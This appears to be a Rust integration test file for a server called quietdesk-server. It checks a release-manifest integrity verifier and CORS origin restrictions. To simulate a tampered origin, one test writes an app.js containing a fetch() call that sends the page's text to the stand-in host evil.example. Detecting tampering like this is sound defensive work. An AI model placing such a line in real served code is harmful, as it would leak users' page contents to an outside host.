//! Serving the app from another origin than the API, and checking what an origin
//! serves against the release manifest, against the real server binary.

#[path = "support/backend.rs"]
mod backend;
#[path = "support/server.rs"]
mod server;

use server::TestServer;
use sha2::{Digest, Sha256};

fn sha256_line(path: &str, bytes: &[u8]) -> String {
    let hex: String = Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect();
    format!("{hex}  {path}\n")
}

fn verify_release(url: &str, manifest: &std::path::Path) -> (bool, String) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_quietdesk-server"))
        .args(["verify-release", url, manifest.to_str().unwrap()])
        .output()
        .unwrap();
    (out.status.success(), String::from_utf8_lossy(&out.stdout).into_owned())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn verify_release_passes_the_released_files_and_names_a_changed_one() {
    let app = tempfile::tempdir().unwrap();
    let files: [(&str, &[u8]); 3] = [
        ("index.html", b"<!doctype html><title>Quietdesk</title>"),
        ("app.js", b"console.log(1)"),
        ("icons/i.svg", b"<svg/>"),
    ];
    std::fs::create_dir_all(app.path().join("icons")).unwrap();
    let mut manifest = String::new();
    for (path, bytes) in files {
        std::fs::write(app.path().join(path), bytes).unwrap();
        manifest.push_str(&sha256_line(path, bytes));
    }
    let kept = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(kept.path(), &manifest).unwrap();
    let srv = TestServer::start_with(&["--static-dir", app.path().to_str().unwrap()]);

    let (ok, out) = verify_release(&srv.base, kept.path());
    assert!(ok, "{out}");
    assert!(out.contains("4 of 4 files as released"), "{out}");

    // The origin starts serving other code.
    std::fs::write(app.path().join("app.js"), b"fetch('https://evil.example/?' + document.body.innerText)").unwrap();
    let (ok, out) = verify_release(&srv.base, kept.path());
    assert!(!ok, "{out}");
    assert!(out.contains("DIFFERS app.js"), "{out}");
    assert!(!out.contains("DIFFERS index.html"), "{out}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_api_answers_browsers_from_the_configured_app_origin_only() {
    let srv = TestServer::start_with(&["--allow-origin", "https://app.example.com"]);
    let http = reqwest::Client::new();
    let preflight = |origin: &'static str| {
        http.request(reqwest::Method::OPTIONS, format!("{}/api/v1/auth/prelogin", srv.base))
            .header("Origin", origin)
            .header("Access-Control-Request-Method", "POST")
            .header("Access-Control-Request-Headers", "content-type")
            .send()
    };
    let allowed = preflight("https://app.example.com").await.unwrap();
    assert_eq!(
        allowed.headers().get("access-control-allow-origin").and_then(|v| v.to_str().ok()),
        Some("https://app.example.com")
    );
    let other = preflight("https://evil.example").await.unwrap();
    assert!(other.headers().get("access-control-allow-origin").is_none(), "no other origin");
    let plain = http.get(format!("{}/api/v1/health", srv.base)).header("Origin", "https://app.example.com").send();
    let plain = plain.await.unwrap();
    assert_eq!(plain.headers().get("access-control-allow-origin").unwrap(), "https://app.example.com");
}
